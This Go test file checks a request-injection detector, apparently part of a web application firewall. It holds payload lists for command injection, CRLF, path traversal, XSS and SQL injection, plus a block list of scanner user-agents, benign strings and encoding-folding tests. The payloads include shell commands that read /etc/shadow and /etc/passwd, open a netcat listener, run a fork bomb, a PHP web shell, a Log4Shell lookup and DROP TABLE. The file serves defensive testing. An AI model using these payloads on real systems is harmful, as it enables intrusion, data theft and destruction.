package detect

import (
	"net/http"
	"net/url"
	"testing"
)

// payloadPlaces are the places the corpus measurement sends a payload: a query value, a path
// segment of an unknown route, the User-Agent and a JSON string.
var payloadPlaces = []struct {
	name    string
	inspect func(d *Detector, p string) (Finding, bool)
}{
	{"query", func(d *Detector, p string) (Finding, bool) {
		return d.InspectRequest(newBrowserRequest("/predict?q=" + url.QueryEscape(p)))
	}},
	{"path", func(d *Detector, p string) (Finding, bool) {
		return d.InspectRequest(newBrowserRequest("/models/" + url.PathEscape(p)))
	}},
	{"user-agent", func(d *Detector, p string) (Finding, bool) {
		r := newBrowserRequest("/predict")
		r.Header.Set("User-Agent", headerValue(p))
		return d.InspectRequest(r)
	}},
	{"json", func(d *Detector, p string) (Finding, bool) { return d.InspectString("json:transaction_id", p) }},
}

// headerValue is p as a client can send it in a header: control characters percent-encoded.
func headerValue(p string) string {
	b := make([]byte, 0, len(p))
	for i := 0; i < len(p); i++ {
		if c := p[i]; c < 0x20 && c != '\t' || c == 0x7f {
			b = append(b, '%', "0123456789ABCDEF"[c>>4], "0123456789ABCDEF"[c&15])
			continue
		}
		b = append(b, p[i])
	}
	return string(b)
}

// TestDetectorClasses checks each mechanism on payloads of its class, in every place: the
// examples that passed before (issue 11) and others of the same shape.
func TestDetectorClasses(t *testing.T) {
	for _, tc := range []struct {
		rule     string
		payloads []string
	}{
		{RuleCmdi, []string{
			";id;", "|/usr/bin/id|", `'\n/bin/ls -al\n'`, "; cat /etc/hosts", "| whoami", "&& net user",
			"`uname -a`", "$(sleep 5)", "& ping -c 10 127.0.0.1 &", "||nslookup x.example.com", "\nwhoami\n",
			";{cat,/etc/group}", "() { :; }; /bin/bash -c id", "& dir c:\\", "| type C:\\Windows\\win.ini",
			"; powershell -nop -c iex(x)", "w'h'o'am'i;", "who$()ami|", ";c\\at /etc/group", "ls${IFS}-la",
			"a=nc&&$a -nlvp 555", "/???/??t /etc/group", "${jndi:ldap://x.example/a}", "f(){ f|f& };f",
			"cat ${HOME:0:1}etc${HOME:0:1}group", "& FOR /F %G IN ('whoami') DO @echo %G",
			";system('id')", "<?php passthru($_GET['c']); ?>", "__import__('os').popen('id')",
		}},
		{RuleCRLF, []string{
			"/%0d%0aSet-Cookie:crlf=injection", "/%25250aSet-Cookie:crlf=injection", "%E5%98%8A%E5%98%8DSet-Cookie:x=1",
			"%u000aLocation: http://x.example", "a\r\nX-Injected: 1", `\r\nContent-Length: 0`, "%0d%0aRemote-Addr: 1.2.3.4",
			"%0d%0aMAIL FROM:<a@b.example>",
		}},
		{RuleTraversal, []string{
			"%c0%2e%c0%2e/%c0%2e%c0%2e/etc/passwd", "%uff0e%uff0e%u2216/etc/passwd", `C:\boot.ini`, "/etc/shadow",
			"/proc/self/environ", `C:\Windows\win.ini`, "WEB-INF/web.xml", "php://filter/convert.base64-encode/resource=index",
			"file:///etc/hosts", "expect://id", "data:text/html;base64,PHNjcmlwdD4=", "..%e0%80%af..%e0%80%afboot.ini",
			"/et*/pass?d", "/var/log/apache2/access.log", "..%uefc8..%uefc8boot.ini",
		}},
		{RuleXSS, []string{
			"<x%09onxxx=1", "<x/onxxx=1", "<svg%0Aonload=alert(1)>", "javascript:alert(1)//", "jav&#x09;ascript:alert(1)",
			`" onmouseover="alert(1)`, "x onfocus=alert(1) autofocus", "alert`1`", "(alert)(1)", "[1].find(alert)",
			"top['al'+'ert'](1)", `al\u0065rt(1)`, "alert&lpar;1&rpar;", "＜script＞alert(1)＜/script＞",
			"onerror=alert;throw 1",
		}},
		{RuleSQLi, []string{
			",(select * from (select(sleep(10)))a)", "'),NULL,NULL)%20waitfor%20delay%20'0:0:20'%20--", "’ or ‘1’=’1",
			"1; DROP TABLE users", "'; exec master..xp_cmdshell 'ping x'--", "1 AND 1=2", "1' and pg_sleep(5)--",
			"benchmark(5000000,md5(1))", "extractvalue(1,concat(0x7e,version()))", "x' or username like 'a%';",
			"admin'--", "1 in (1,2)", "ALTER TABLE `users` ADD `x` TEXT", "user()",
		}},
	} {
		t.Run(tc.rule, func(t *testing.T) {
			d := New(Options{CacheSize: -1})
			for _, p := range tc.payloads {
				for _, place := range payloadPlaces {
					if f, ok := place.inspect(d, p); !ok {
						t.Errorf("%q in the %s: got no finding, want %s", p, place.name, tc.rule)
					} else if f.Rule == RuleScanner || f.Rule == RuleHeaderFlood || f.Rule == RuleHeaderSize {
						t.Errorf("%q in the %s: got %+v, want an injection rule", p, place.name, f)
					}
				}
			}
		})
	}
}

// TestDetectorBenignText holds benign strings once refused as attacks, and others of the same
// kinds an API receives, to no finding in any place.
func TestDetectorBenignText(t *testing.T) {
	d := New(Options{CacheSize: -1})
	for _, s := range []string{
		// Refused before (issue 11).
		"while (foo) is bar.", "Just in case (abc)", "One quarter (24%) of people are here", `"john smith"@example.com`,
		// Prose with brackets, percentages, quotes and apostrophes.
		"Please call me (after 5pm) if possible.", "The total (incl. tax) is $45.99; thanks!", "O'Brien & Sons (est. 1902)",
		"sleep (8 hours)", "version (2.1) released", "user(s) must log in", "Learn Python (3rd edition)",
		"He said 'no' -- then left.", "Rock 'n' Roll -- live at 8", "It's \"on sale\" -- again", "50% of 200 is 100; 25% is 50.",
		"JavaScript: The Good Parts", "Alert: card expires 03/27", "x > 5 and y < 10", "Order 1--2 pages",
		// SQL and shell words used as English.
		"select seat 12A", "union station pickup", "Drop table tennis lessons", "Insert into envelope",
		"Delete from my list", "Update set for Monday", "Mon-Fri; free", "Echo & the Bunnymen", "Cat & Fiddle pub; sleep well",
		"id card required; ID 12345", "ping me later; cheers", "Type 2 diabetes", "Time: 5pm; free parking",
		// Merchants, e-mail addresses, URLs, names in other scripts.
		"SP * GYMSHARK", "Sweetgreen * Online", "AMZN Mktp US*2K4LD5T81", "TST* JOE'S PIZZA", "Ben & Jerry's | Ice Cream",
		"o'brien+shop@example.com", "!#$%&'*+-/=?^_`{}|~@example.org", `"very.unusual.@.unusual.com"@example.com`,
		"admin@[192.168.2.1]", "https://shop.example.com/p/123?utm_source=news&utm_medium=email#reviews",
		"Zoë Müller-Lüdenscheidt", "北京市朝阳区", "Москва, ул. Тверская, д. 1", "محمد بن سلمان", "¿Dónde está el baño?",
		"C:\\Users\\jsmith\\Documents\\invoice.pdf", "Reference: INV-2024/03/001", "Comments/etc/notes",
		// Licence text: quoted terms, dashes written as two hyphens, old-style `quotes'.
		`Licensed under the Apache License, Version 2.0 (the "License");`, "\t\"You\" is you, if you're thinking about copying",
		"versions not from Info-ZIP--must be plainly marked", "under certain conditions; type `show c' for details.",
		`"GCC" means a version of the GNU Compiler Collection, with or without`, "* Andrew McDonald", "\"Quoted\" and 'single' and `backtick` text",
	} {
		for _, place := range payloadPlaces {
			if f, ok := place.inspect(d, s); ok {
				t.Errorf("%q in the %s: got %+v, want no finding", s, place.name, f)
			}
		}
	}
}

// TestUserAgents checks that scanners and attack tools are refused by name, as whole words in
// any case, and that browsers, crawlers and generic HTTP clients are not.
func TestUserAgents(t *testing.T) {
	d := New(Options{CacheSize: -1})
	ua := func(v string) *http.Request {
		r := newBrowserRequest("/predict")
		r.Header.Set("User-Agent", v)
		return r
	}
	for _, v := range []string{
		"gobuster/3.6", "commix/v3.9-stable (https://commixproject.com)", "Detectify", "Mozilla/5.0 (compatible; Detectify)",
		"Fuzz Faster U Fool v2.1.0", "feroxbuster/2.10.1", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 xray",
		"OWASP ZAP/2.14", "Burp Suite Professional", "Mozilla/4.0 (Hydra)", "dirsearch/0.4.3", "WPScan v3.8.25",
		"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "x.oast.fun", "jaeles", "httpx/1.3.7",
	} {
		if f, ok := d.InspectRequest(ua(v)); !ok || f.Rule != RuleScanner {
			t.Errorf("User-Agent %q: got %+v, %v; want a scanner finding", v, f, ok)
		}
	}
	for _, v := range []string{
		"curl/8.4.0", "python-requests/2.31.0", "Python-urllib/3.11", "libwww-perl/6.67", "Go-http-client/2.0",
		"Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3031", "PostmanRuntime/7.36.1",
		"insomnia/8.6.1", "okhttp/4.12.0", "Java/17.0.9", "Wget/1.21.4", "python-httpx/0.27.0", "aws-xray-sdk-go/1.8",
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 Safari/537.36",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
		"Mozilla/5.0 (Windows; U; Windows NT 6.1; nl; rv:1.9.2.13) Gecko/20101203 Firefox/3.6.13",
		"Mozilla/5.0 (Linux; U; Android 4.0.4; id; GT-I9300 Build/IMM76D) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
		"Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)",
		"Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/1.1.1d", "Homebrew/4.1.0 (Macintosh; arm64 Mac OS X 14.0) curl/8.1.2",
		`pip/23.2.1 {"ci":null,"cpu":"x86_64","distro":{"name":"Ubuntu","version":"22.04"}}`, "kube-probe/1.27", "Zapier",
	} {
		if f, ok := d.InspectRequest(ua(v)); ok {
			t.Errorf("User-Agent %q: got %+v, want no finding", v, f)
		}
	}
}

func TestFold(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"%c0%ae", "%c0%ae"}, // percent escapes are unescapeLenient's
		{"\xc0\xae\xc0\xae/", "../"},
		{"\xe0\x80\xae\xe0\x80\xaf", "./"},
		{"\xc0.\xc0.", ".."},
		{"%uff0e%u2216", `.\`},
		{`\u003cscript\u003e`, "<script>"},
		{`\x3cb\x3e`, "<b>"},
		{"&lt;b&gt;&#x27;&#39&quot;", `<b>''"`},
		{"’ or ‘1’=’1", "' or '1'='1"},
		{"“x”", `"x"`},
		{"ｓｅｌｅｃｔ", "select"},
		{"a\x00b\x01c\td", "abc\td"},
		{"嘊嘍", "\n\r"},
		{"Zoë Müller", "Zoë Müller"},
		{"Tom & Jerry", "Tom & Jerry"},
	} {
		if got, _ := fold(tc.in); got != tc.want {
			t.Errorf("fold(%q): got %q, want %q", tc.in, got, tc.want)
		}
	}
	if _, changed := fold("Zoë Müller & Sons"); changed {
		t.Error("fold changed text that holds nothing to fold")
	}
}

// TestInspectCleanAllocatesNothing checks the fast paths: a plain string and a cached
// User-Agent cost no allocation.
func TestInspectCleanAllocatesNothing(t *testing.T) {
	d := New(Options{})
	r := newPredictRequest("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36")
	d.InspectRequest(r)
	if n := testing.AllocsPerRun(100, func() { d.InspectRequest(r) }); n != 0 {
		t.Errorf("clean request: got %v allocations, want 0", n)
	}
	if n := testing.AllocsPerRun(100, func() { d.InspectString("json:transaction_id", "txn_8f2k4m9q1z7x3c5v") }); n != 0 {
		t.Errorf("plain transaction id: got %v allocations, want 0", n)
	}
}
